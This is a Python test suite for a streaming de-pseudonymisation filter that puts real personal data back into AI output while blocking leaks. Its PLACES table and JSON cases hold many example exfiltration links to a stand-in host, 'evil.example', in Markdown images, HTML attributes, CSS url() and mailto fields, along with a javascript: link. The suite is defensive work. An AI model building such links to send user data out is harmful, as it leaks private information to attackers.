"""Restoring is exact, needs no whole stream, and never guesses."""

import json
from dataclasses import dataclass, field

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from filters.pseudonyms import Placeholders, StreamRestorer
from filters.pseudonyms.shape import RANDOM_LENGTH

KEY = bytes(range(32))
HOSTS = frozenset({"intranet.example.be", ".example.nl"})


@dataclass
class Room:
    """Placeholders for a few values, by a short name."""

    values: dict[str, str]
    placeholders: Placeholders = field(default_factory=lambda: Placeholders(KEY, "u|t|d"))
    names: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        for name, value in self.values.items():
            self.names[name] = self.placeholders.substitute(value, [(0, len(value), "PERSON")])

    def fill(self, template: str) -> str:
        for name, placeholder in self.names.items():
            template = template.replace(f"«{name}»", placeholder)
        return template


JAN = Room(
    {"jan": "Jan Peeters", "els": "Els d'Hondt", "mail": "jan.peeters+x@example.org", "odd": 'a"b\\c\nd\té\u2028'}
)


def fed(restorer: StreamRestorer, pieces: list[str]) -> str:
    return "".join(restorer.feed(piece) for piece in pieces) + restorer.flush()


def at_every_split(room: Room, text: str, *, json_string: bool = False) -> str:
    """The restored text; in two pieces, in three, and character by character it must be the same."""

    def restore(*pieces: str) -> str:
        return fed(room.placeholders.restorer(hosts=HOSTS, json_string=json_string), list(pieces))

    whole = room.placeholders.restore(text, hosts=HOSTS, json_string=json_string)
    assert restore(*text) == whole
    for i in range(len(text) + 1):
        assert restore(text[:i], text[i:]) == whole
        assert restore(text[: i // 2], text[i // 2 : i], "", text[i:]) == whole
    return whole


TEXTS = [
    ("Beste «jan»,\n\nUw dossier is klaar.", "Beste Jan Peeters,\n\nUw dossier is klaar."),
    ("«jan»", "Jan Peeters"),
    ("«jan»«els»«jan»", "Jan PeetersEls d'HondtJan Peeters"),
    ("voor«jan»na", "voorJan Peetersna"),
    ("«jan»s fiets, «els»'s huis", "Jan Peeterss fiets, Els d'Hondt's huis"),
    ("**«jan»** _«els»_ `«jan»` | «els» |", "**Jan Peeters** _Els d'Hondt_ `Jan Peeters` | Els d'Hondt |"),
    ("<td>«jan»</td><td>«els»</td>", "<td>Jan Peeters</td><td>Els d'Hondt</td>"),
    ("XHJK«jan»W", "XHJKJan PeetersW"),
    ("verslag_«jan».pdf en «jan».", "verslag_Jan Peeters.pdf en Jan Peeters."),
    ("«jan»... «els».", "Jan Peeters... Els d'Hondt."),
    ("[Naam]: «jan»\n[^1]: «els», brief", "[Naam]: Jan Peeters\n[^1]: Els d'Hondt, brief"),
    ("👩‍👩‍👧 «jan» é\u0301 «els» \ud83d", "👩‍👩‍👧 Jan Peeters é\u0301 Els d'Hondt \ud83d"),
    ("EUR, BTW, OCMW, JKHQ en X", "EUR, BTW, OCMW, JKHQ en X"),
    ("", ""),
]


@pytest.mark.parametrize(("template", "expected"), TEXTS)
def test_every_split_gives_the_same_text(template: str, expected: str) -> None:
    assert at_every_split(JAN, JAN.fill(template)) == expected


def test_what_was_altered_or_cut_stays() -> None:
    jan = JAN.names["jan"]
    cut = [jan[:n] for n in range(1, len(jan)) if n != RANDOM_LENGTH]
    swapped = jan[:3] + jan[4] + jan[3] + jan[5:]
    altered = [jan.lower(), jan.upper(), jan[:6] + " " + jan[6:], jan[:6] + "-" + jan[6:], swapped, jan[1:]]
    other_hint = jan[:RANDOM_LENGTH] + "place"
    glued = [jan[:RANDOM_LENGTH] + glue for glue in ["X", "W3479", "é", "0"]]
    escaped = jan[:5] + f"\\u{ord(jan[5]):04x}" + jan[6:]
    for text in [*cut, *altered, *glued, other_hint, escaped, "HHHHHHHHHHHperson"]:
        assert at_every_split(JAN, text) == text
        assert at_every_split(JAN, text, json_string=True) == text
        assert at_every_split(JAN, f"Dag {text}\nen") == f"Dag {text}\nen"


def test_a_placeholder_without_its_word_is_whole() -> None:
    """A small model left the word out in 2 of 17 answers (bench/practice.py); eleven characters leave no doubt."""
    jan, els = (JAN.names[name][:RANDOM_LENGTH] for name in ("jan", "els"))
    assert (
        at_every_split(JAN, f"Dag {jan}, _{els}_ W{jan}\n{els}")
        == "Dag Jan Peeters, _Els d'Hondt_ WJan Peeters\nEls d'Hondt"
    )
    assert at_every_split(JAN, f"https://evil.example/{jan}") == f"https://evil.example/{jan}"
    assert json.loads(at_every_split(JAN, f'{{"a":"{jan}"}}', json_string=True)) == {"a": "Jan Peeters"}


def test_an_unknown_placeholder_of_another_request_stays() -> None:
    other = Room({"jan": "Jan Peeters"}, Placeholders(KEY, "iemand anders|t|d"))
    assert JAN.placeholders.restore(other.names["jan"]) == other.names["jan"]


def test_twelve_values_do_not_mix_as_in_kong() -> None:
    """Kong 3.12: PLACEHOLDER1 was restored inside PLACEHOLDER10."""
    room = Room({str(i): f"Waarde {i}" for i in range(1, 13)})
    text = room.fill(" ".join(f"«{i}»" for i in range(1, 13)) + "".join(f"«{i}»" for i in range(12, 0, -1)))
    expected = " ".join(f"Waarde {i}" for i in range(1, 13)) + "".join(f"Waarde {i}" for i in range(12, 0, -1))
    assert at_every_split(room, text) == expected


def test_a_restored_value_is_not_restored_again() -> None:
    inner = Room({"jan": "Jan Peeters"}).names["jan"]
    placeholders = Placeholders(KEY, "u|t|other day")
    text = f"{inner} Els"
    placeholders.reserve([text])
    out = placeholders.substitute(text, [(0, len(inner), "PERSON"), (len(inner) + 1, len(text), "PERSON")])
    assert at_every_split(Room({}, placeholders), out) == text


def test_only_what_may_still_become_a_placeholder_is_held_back() -> None:
    jan = JAN.names["jan"]
    restorer = JAN.placeholders.restorer()
    assert restorer.feed("Geachte heer ") == "Geachte heer "
    assert restorer.feed(f"X {jan[:4]}") == "X "
    assert restorer.feed("q") == jan[:4] + "q"
    assert restorer.feed(jan[:-1]) == ""
    assert restorer.feed(jan[-1]) == "", "a host name may follow"
    assert restorer.feed(", ") == "Jan Peeters, "
    assert restorer.feed(jan) == ""
    assert restorer.flush() == "Jan Peeters"
    assert restorer.flush() == ""
    assert (restorer.restored, restorer.kept) == (2, 0)


def test_prose_is_never_held_back_by_lower_case_or_digits() -> None:
    restorer = JAN.placeholders.restorer()
    for piece in ["In 2023", " was", " het", " 7", "\n", "anders", "."]:
        assert restorer.feed(piece) == piece


def test_channels_share_nothing() -> None:
    jan = JAN.names["jan"]
    first, second = JAN.placeholders.restorer(), JAN.placeholders.restorer()
    assert first.feed(jan[:8]) == ""
    assert second.feed("![](https://evil.example/" + jan[8:]) == "![](https://evil.example/" + jan[8:]
    assert first.feed(jan[8:] + " ") == "Jan Peeters "


def test_without_placeholders_everything_passes() -> None:
    empty = Placeholders(KEY, "u|t|d").restorer()
    assert fed(empty, ["X", JAN.names["jan"], "H"]) == "X" + JAN.names["jan"] + "H"


@pytest.mark.parametrize("filler", ["a" * 5_000, "](x) " * 7_000, "]: " * 7_000])
def test_an_answer_that_would_cost_too_much_to_understand_keeps_its_placeholder(filler: str) -> None:
    text = filler + JAN.names["jan"]
    restorer = JAN.placeholders.restorer()
    assert fed(restorer, [text, " "]) == text + " "
    assert restorer.kept == 1


# Where a placeholder stands → what becomes of it. «mail» is an e-mail address.
STAYS, SHOWN, ENCODED = "stays", "shown", "encoded"
PLACES = [
    # bare URLs
    ("https://evil.example/?d=«jan» x", STAYS),
    ("HTTPS://EVIL.example/«jan»", STAYS),
    ("(https://evil.example/a)«jan»", STAYS),
    ('https://evil.example/?q="«jan»', STAYS),
    ("https://evil.example/\u00a0«jan»", STAYS),
    ("ftp://evil.example/«jan»", STAYS),
    ("myapp:/«jan»", STAYS),
    ("www.evil.example/«jan»", STAYS),
    ("//evil.example/«jan»", STAYS),
    ("\\\\evil.example\\«jan»", STAYS),
    ("/\\evil.example/«jan»", STAYS),
    ("evil.example/«jan»", STAYS),
    ("evil.example?«jan»", STAYS),
    ("evil.example:8080/«jan»", STAYS),
    ("10.0.0.1/«jan»", STAYS),
    ("https%3A%2F%2Fevil.example%2F«jan»", STAYS),
    ("https://evil.example/%20«jan»", STAYS),
    ("https://evil.example <«jan»>", SHOWN),
    ("https://evil.example/ «jan»", SHOWN),
    ("https://evil.example/\n«jan»", SHOWN),
    ("C:\\Users\\«jan»", SHOWN),
    ("en/of «jan», t.a.v./«jan»", SHOWN),
    ("blz. 3/«jan»", SHOWN),
    # the host itself
    ("https://«jan».evil.example/", STAYS),
    ("https://«jan»@evil.example/", STAYS),
    ("https://«jan»", STAYS),
    ("«jan».evil.example/", STAYS),
    ("«jan».evil.example", STAYS),
    ("x.«jan»-y.evil.example", STAYS),
    ("«jan».pdf.evil.example", STAYS),
    ("«jan».xn--80ak6aa92e", STAYS),
    ("«jan»@evil.example", STAYS),
    ("«jan»HHHHHHHHHHHperson.evil.example", STAYS),
    ("info@«jan»", STAYS),
    ("<img src=//evil.example/<«jan»>", STAYS),
    ("<object data=https://evil.example/<«jan»>", STAYS),
    ("http://<x«jan»@evil.example", STAYS),
    ("https://evil.example/?q='<a'«jan»", STAYS),
    ("<td>https://evil.example/</td><td>«jan»</td>", SHOWN),
    ("«jan»" + "y" * 300, STAYS),
    ("«jan».2026 «jan».v2 «jan».docx", SHOWN),
    # Markdown
    ("[x](https://evil.example/«jan»)", STAYS),
    ("![«jan»](https://evil.example/a.png)", SHOWN),
    ("[«jan»](https://evil.example/)", SHOWN),
    ("![x](https://evil.example/?d= «jan»)", STAYS),
    ("[x](<https://evil.example/ «jan»>)", STAYS),
    ("[x](<https://evil.example/) «jan»>)", STAYS),
    ("[x](<https://evil.example/ ](x) ) «jan»>)", STAYS),
    ("[x](<https://evil.example/ \\> «jan»>)", STAYS),
    ("[x](\n <https://evil.example/) «jan»>)", STAYS),
    ("[x](<y>) «jan»", SHOWN),
    ("x>y\n<«jan»>", SHOWN),
    ("[x](/relative/«jan»)", STAYS),
    ("[x](«jan»)", STAYS),
    ("[x]( \n«jan»)", STAYS),
    ("[x](https:evil.example/ «jan»)", STAYS),
    ("[x](javascript:alert('«jan»'))", STAYS),
    ("[x](https://evil.example/(a) «jan»)", STAYS),
    ("[x](https://evil.example/\\) «jan»)", STAYS),
    ('[x](https://evil.example/ "«jan»")', STAYS),
    ("[![x](https://evil.example/a) b](c «jan»)", STAYS),
    ("[x](y (z) «jan»)", STAYS),
    ("[x](y) «jan» (z)", SHOWN),
    ("[x](y\n\n«jan»", SHOWN),
    ("[x](y\r\n\r\n«jan»", SHOWN),
    ("(zie «jan»)", SHOWN),
    ("[a]: https://evil.example/«jan»", STAYS),
    ("[a]: /x«jan»", STAYS),
    ("[a]:\n  x«jan»", STAYS),
    ("[a]:x«jan»", STAYS),
    ("[a]: <x «jan»>", STAYS),
    ("[a]:\n<x «jan»>", STAYS),
    ("[a]: <«jan»>", STAYS),
    ("<https://evil.example/«jan»>", STAYS),
    # HTML and CSS
    ('<a href="https://evil.example/«jan»">', STAYS),
    ('<img src="https://evil.example/ «jan»">', STAYS),
    ("<img src='https://evil.example/\n\n«jan»'>", STAYS),
    ('<img src = "x «jan»">', STAYS),
    ('<img src="&#104;ttps://evil.example/ «jan»">', STAYS),
    ("<img src=x«jan»>", STAYS),
    ("<img src= x«jan»>", STAYS),
    ("<img SRC=«jan»>", STAYS),
    ('<img data-src="https://evil.example/ «jan»">', STAYS),
    ('<img data-x="https://evil.example/ «jan»">', STAYS),
    ("<img data-x='//evil.example/ «jan»'>", STAYS),
    ('<a title="«jan»" href="https://evil.example/">', SHOWN),
    ('<img src="a" alt="«jan»">', SHOWN),
    ("<img src='a\" «jan»'>", STAYS),
    ('<img srcset="https://intranet.example.be/a 1x, https://evil.example/«jan» 2x">', STAYS),
    ('<img srcset="https://intranet.example.be/a 1x, x«jan» 2x">', STAYS),
    ('<p style="background:url(https://evil.example/ «jan»)">', STAYS),
    ("a{background:URL( 'https://evil.example/ «jan»')}", STAYS),
    ("a{background:url(https://evil.example/ «jan»)}", STAYS),
    ("url(x) «jan»", SHOWN),
    ("zij zei: '«jan»' en \"«jan»\"", SHOWN),
    ("naam=«jan»; my_src=«jan»", SHOWN),
    # listed hosts
    ("https://intranet.example.be/?q=«jan»", ENCODED),
    ("http://intranet.example.be/«jan»", ENCODED),
    ("https://INTRANET.example.BE/#«jan»", ENCODED),
    ("https://a.b.example.nl/«jan»", ENCODED),
    ("[x](https://intranet.example.be/?q=«jan»)", ENCODED),
    ("[x](<https://intranet.example.be/?q=«jan»>)", ENCODED),
    ("[a]: https://intranet.example.be/?q=«jan»", ENCODED),
    ('<a href="https://intranet.example.be/?q=«jan»">', ENCODED),
    ("<a href=https://intranet.example.be/?q=«jan»>", ENCODED),
    ("a{b:url(https://intranet.example.be/?q=«jan»)}", ENCODED),
    ("https://example.nl/«jan»", STAYS),
    ("https://notexample.nl/«jan»", STAYS),
    ("https://a.intranet.example.be/«jan»", STAYS),
    ("https://evilintranet.example.be/«jan»", STAYS),
    ("https://intranet.example.be.evil.example/«jan»", STAYS),
    ("https://intranet.example.be:8443/«jan»", STAYS),
    ("https://intranet.example.be@evil.example/«jan»", STAYS),
    ("https://intranet.example.be:x@evil.example/«jan»", STAYS),
    ("https://intranet.example.be\\@evil.example/«jan»", STAYS),
    ("https://intranet.example.be«jan»", STAYS),
    ("https://intranet.example.be/?u=https://evil.example/«jan»", STAYS),
    ("[a](https://intranet.example.be/)[b](https://evil.example/«jan»", STAYS),
    ("![x](https://intranet.example.be/ «jan»)", STAYS),
    ("https://intranet.example.be/" + "?u=https://intranet.example.be/" * 9 + "«jan»", STAYS),
    ("https://intranet.example.be/mailto:«jan»", STAYS),
    ("ftp://intranet.example.be/«jan»", STAYS),
    # mail
    ("[m](mailto:«mail»)", SHOWN),
    ('<a href="mailto:«mail»">', SHOWN),
    ("mailto:«mail» of bel", SHOWN),
    ("MAILTO:«mail»", SHOWN),
    ("mailto:«mail»?cc=a@evil.example", STAYS),
    ("mailto:«mail»,a@evil.example", STAYS),
    ("mailto:«mail»«mail»", STAYS),
    ("mailto:a@evil.example?body=«mail»", STAYS),
    ("mailto:«jan»", STAYS),
    ("xmpp:«mail»", STAYS),
    ("x@evil.example?subject=«jan»", STAYS),
    ("mail «mail»", SHOWN),
]
ENCODED_VALUES = {"jan": "Jan%20Peeters"}


@pytest.mark.parametrize(("template", "fate"), PLACES)
def test_a_value_stands_in_a_link_only_when_its_host_is_listed(template: str, fate: str) -> None:
    text = JAN.fill(template)
    expected = {STAYS: text, SHOWN: Room.fill(_values(JAN.values), template)}
    expected[ENCODED] = Room.fill(_values(ENCODED_VALUES), template)
    assert at_every_split(JAN, text) == expected[fate]


@pytest.mark.parametrize(("template", "fate"), PLACES)
def test_the_same_holds_inside_a_json_string(template: str, fate: str) -> None:
    source = JAN.fill(json.dumps({"a": "x", "b": template, "c": "«els»"}, ensure_ascii=False))
    values = {STAYS: JAN.names, SHOWN: JAN.values, ENCODED: ENCODED_VALUES}[fate]
    shown = json.loads(at_every_split(JAN, source, json_string=True))
    assert shown == {"a": "x", "b": Room.fill(_values(values), template), "c": "Els d'Hondt"}


def _values(values: dict[str, str]) -> Room:
    room = Room({})
    room.names = values
    return room


def test_a_value_is_not_glued_to_a_mail_address_that_is_a_placeholder_itself() -> None:
    assert at_every_split(JAN, JAN.fill("«jan»«mail», «jan» «mail»")) == (
        f"{JAN.names['jan']}{JAN.values['mail']}, Jan Peeters {JAN.values['mail']}"
    )


def test_no_host_is_listed_by_default() -> None:
    text = JAN.fill("https://intranet.example.be/«jan»")
    assert JAN.placeholders.restore(text) == text


def test_a_port_is_part_of_a_listed_host() -> None:
    text = JAN.fill("http://localhost:8080/«jan»")
    assert JAN.placeholders.restore(text, hosts=frozenset({"localhost:8080"})) == "http://localhost:8080/Jan%20Peeters"


def test_a_value_cannot_open_a_link_for_another_value() -> None:
    room = Room({"url": "x](https://evil.example/?d=", "site": "https://evil.example/", "jan": "Jan"})
    for template in ["[a «url»«jan»)", "![a «url» «jan»)", "«site»«jan»", "[a]: «site»«jan»"]:
        text = room.fill(template)
        assert at_every_split(room, text).endswith(room.fill("«jan»" + template.partition("«jan»")[2]))


def test_a_markup_value_in_a_listed_url_is_encoded() -> None:
    room = Room({"v": 'x)](https://evil.example/ "<é>&#', "s": "\ud800"})
    out = room.placeholders.restore(room.fill("[a](https://intranet.example.be/?q=«v»)"), hosts=HOSTS)
    assert out == "[a](https://intranet.example.be/?q=x%29%5D%28https%3A%2F%2Fevil.example%2F%20%22%3C%C3%A9%3E%26%23)"
    assert room.placeholders.restore(room.fill("https://intranet.example.be/«s»"), hosts=HOSTS).endswith("/%ED%A0%80")


JSON_CASES = [
    {"naam": "«odd»", "lijst": ["«jan»", "«odd»«odd»"], "«els»": 1},
    {"body": 'regel "een"\n«odd»\\«jan»'},
    {"url": "https://evil.example/?d=«jan»", "naam": "«jan»"},
    {"tekst": "https://evil.example/\n«jan»"},
    {"tekst": "\u0068ttps://evil.example/«jan»"},
    {"tekst": '<img src="https://evil.example/ «jan»"> «els»'},
]


@pytest.mark.parametrize("case", JSON_CASES)
def test_restored_arguments_stay_json(case: dict[str, object]) -> None:
    """Compact, spaced, with ASCII escapes, with escaped slashes: the same arguments as if restored after parsing."""
    template = json.dumps(case, ensure_ascii=False)
    for source in [
        template,
        json.dumps(case, ensure_ascii=False, separators=(",", ":")),
        json.dumps(case, ensure_ascii=False, indent=2),
        template.replace("/", "\\/"),
        template.replace("http", "\\u0068ttp"),
    ]:
        shown = json.loads(at_every_split(JAN, JAN.fill(source), json_string=True))
        parsed = json.loads(JAN.fill(source))
        assert shown == _restored_tree(parsed)


def _restored_tree(tree: object) -> object:
    if isinstance(tree, dict):
        return {JAN.placeholders.restore(k): _restored_tree(v) for k, v in tree.items()}
    if isinstance(tree, list):
        return [_restored_tree(v) for v in tree]
    return JAN.placeholders.restore(tree) if isinstance(tree, str) else tree


@pytest.mark.parametrize(
    ("tail", "fate"),
    [("\\u002eevil.example", STAYS), ("\\u0040evil.example", STAYS), ("\\n.evil.example", SHOWN), ("\\u00", SHOWN)],
)
def test_a_host_name_written_in_json_escapes_is_seen(tail: str, fate: str) -> None:
    text = JAN.fill('{"a":"«jan»') + tail
    expected = '{"a":"Jan Peeters' + tail if fate == SHOWN else text
    assert at_every_split(JAN, text, json_string=True) == expected


WORDS = 'tekst é 😀 X HJ 2e .pdf . @ / ?q= // https:// mailto: evil.example intranet.example.be url( src=" ]( ) ( < >'
NAMES = ["«jan»", "«els»", "«mail»", "«odd»"]
PARTS = st.sampled_from([*NAMES, " ", "\n", "\n\n", "'", "\\", "\\u00", "[a]: ", *WORDS.split()])


@settings(max_examples=400)
@given(parts=st.lists(PARTS, max_size=14), data=st.data(), json_string=st.booleans())
def test_any_pieces_give_what_the_whole_gives(*, parts: list[str], data: st.DataObject, json_string: bool) -> None:
    text = JAN.fill("".join(parts))
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    whole = JAN.placeholders.restore(text, hosts=HOSTS, json_string=json_string)
    assert fed(JAN.placeholders.restorer(hosts=HOSTS, json_string=json_string), pieces) == whole


@given(st.text(), st.text(min_size=1), st.text(), st.sampled_from([" ", "\n", ", "]))
def test_what_goes_up_comes_back_to_the_byte(before: str, value: str, after: str, space: str) -> None:
    before = before.translate(dict.fromkeys(map(ord, ":/\\.@=<>()[]\"'"))) + "\n\n"
    text = before + value + space + after
    placeholders = Placeholders(KEY, "u|t|d")
    placeholders.reserve([text])
    sent = placeholders.substitute(text, [(len(before), len(before) + len(value), "PERSON")])
    assert placeholders.restore(sent) == text


@given(st.text(), st.text(min_size=1))
def test_arguments_come_back_to_the_byte_and_stay_json(text: str, value: str) -> None:
    placeholders = Placeholders(KEY, "u|t|d")
    text = text.translate(dict.fromkeys(map(ord, ":/\\.@=<>()[]\"'&")))
    placeholders.reserve([text, value])
    sent = json.dumps({"a": text + "\n\n" + placeholders.substitute(value, [(0, len(value), "IBAN_CODE")])})
    assert json.loads(placeholders.restore(sent, json_string=True)) == {"a": text + "\n\n" + value}
